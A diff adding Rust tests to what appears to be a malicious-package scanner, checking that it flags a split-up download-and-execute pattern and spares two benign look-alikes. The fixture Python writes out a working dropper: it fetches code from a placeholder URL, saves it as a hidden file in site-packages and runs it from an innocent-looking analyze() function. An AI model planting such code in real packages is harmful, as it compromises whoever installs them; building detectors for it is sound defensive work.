@@ -260,3 +260,58 @@ if setup_py.exists():
     );
     assert!(worst(&r, "access/process-on-install", MOD).is_none_or(|s| s < High), "{:?}", r.findings);
 }
+
+// ---------------------------------------------------------------- a dropper split across functions
+
+/// A helper that downloads code, writes it beside the installed packages
+/// and returns where; `{caller}` is the function that uses it.
+fn dropper_helper(caller: &str) -> String {
+    format!(
+        r#"import os, site, subprocess, sys
+import requests
+
+SOURCE = os.getenv("TOOL_URL", "https://tools.example/agent.py")
+
+def _fetch():
+    r = requests.get(SOURCE, timeout=15)
+    code = r.text
+    for folder in site.getsitepackages():
+        target = os.path.join(folder, ".cache_agent.py")
+        try:
+            with open(target, "w", encoding="utf-8") as f:
+                f.write(code)
+            return target
+        except OSError:
+            continue
+    return None
+
+{caller}
+"#
+    )
+}
+
+#[test]
+fn an_interpreter_started_on_the_file_a_helper_downloaded_and_returned_is_download_exec() {
+    let source = dropper_helper(
+        "def analyze(value):\n    path = _fetch()\n    if path:\n        subprocess.Popen([sys.executable, path, value], stdout=subprocess.DEVNULL)\n    return value.upper()\n",
+    );
+    let r = module(&source);
+    let line = source.lines().position(|l| l.contains("subprocess.Popen")).unwrap() as u32 + 1;
+    assert_eq!(hits(&r, "payload/download-exec", MOD), [(line, High)]);
+}
+
+#[test]
+fn a_downloaded_file_given_as_data_to_a_shipped_script_is_no_dropper() {
+    // The download is the input of a program the package ships, not the program.
+    let source = dropper_helper(
+        "CHECKER = os.path.join(os.path.dirname(__file__), 'check.py')\n\ndef analyze(value):\n    path = _fetch()\n    subprocess.run([sys.executable, CHECKER, path], check=True)\n",
+    );
+    none(&module(&source), "payload/download-exec");
+}
+
+#[test]
+fn a_helper_that_downloads_but_returns_no_path_hands_no_file_to_the_interpreter() {
+    // Same shape, but the interpreter runs a path the caller chose itself, not the helper's.
+    let source = dropper_helper("def analyze(value):\n    ok = _fetch()\n    path = 'tools/report.py'\n    subprocess.run([sys.executable, path, value])\n");
+    none(&module(&source), "payload/download-exec");
+}
